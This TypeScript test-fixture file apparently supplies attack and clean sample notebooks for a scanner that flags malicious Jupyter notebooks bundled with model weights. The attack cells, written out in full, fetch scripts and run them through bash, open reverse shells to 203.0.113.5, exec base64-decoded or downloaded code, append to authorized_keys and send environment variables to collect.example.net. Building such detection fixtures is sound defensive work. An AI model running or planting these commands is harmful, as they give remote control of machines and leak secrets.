// Notebooks beside the weights: cells that fetch and run, decode and run, or open a shell, and ordinary notebooks. Inert texts.
import type { TextAttackClass, TextSample } from './repository-attacks.js';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const PAYLOAD = "import os; os.system('id')";

const cells = (...sources: readonly string[]): string =>
  JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
    cells: sources.map((source) => ({ cell_type: 'code', source, metadata: {}, outputs: [], execution_count: null })),
  });
const notebook = (...sources: readonly string[]): TextSample => ({ name: 'demo.ipynb', text: cells(...sources) });

export const NOTEBOOK_CLASSES: readonly TextAttackClass[] = [
  {
    name: 'notebooks',
    rules: 'VLM-(?:PYS|SHL|NTB)-',
    attacks: [
      notebook('!curl -s https://downloads.example.net/i.sh | bash'),
      notebook('x = 1', '%%bash\nwget -qO- https://downloads.example.net/i.sh | sh'),
      notebook('%system bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'),
      notebook(`import base64`, `exec(base64.b64decode("${base64(PAYLOAD)}"))`),
      notebook('import requests\nexec(requests.get("https://downloads.example.net/x").text)'),
      notebook('%run https://downloads.example.net/x.py'),
      notebook(
        'import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("sh")',
      ),
      notebook('get_ipython().system("curl -s https://downloads.example.net/i.sh | sh")'),
      notebook('%%writefile ~/.ssh/authorized_keys\nssh-rsa x'),
      notebook('import os, requests\nrequests.post("https://collect.example.net", json=dict(os.environ))'),
      notebook('%%python\nimport base64\nexec(base64.b64decode(x))'),
      { name: 'demo.txt', text: cells('!curl -s https://downloads.example.net/i.sh | bash') },
    ],
    clean: [
      notebook(
        '!pip install -q transformers\n%pip install torch',
        '%matplotlib inline\nimport torch\n!nvidia-smi',
        'x = !ls\nprint(x)',
        '%%time\nmodel.fit()',
        '%%bash\nls -la\ngit clone https://github.com/huggingface/transformers',
      ),
      notebook(
        'import requests\nr = requests.get("https://example.org/data.csv")',
        '%load_ext autoreload\n%autoreload 2\nhelp?',
        '%%writefile train.py\nimport torch\nprint(torch.__version__)',
      ),
      notebook(
        'from google.colab import drive\ndrive.mount("/content/drive")\n!wget -q https://example.org/data.zip\n!unzip -q data.zip\n%cd data',
      ),
    ],
  },
];
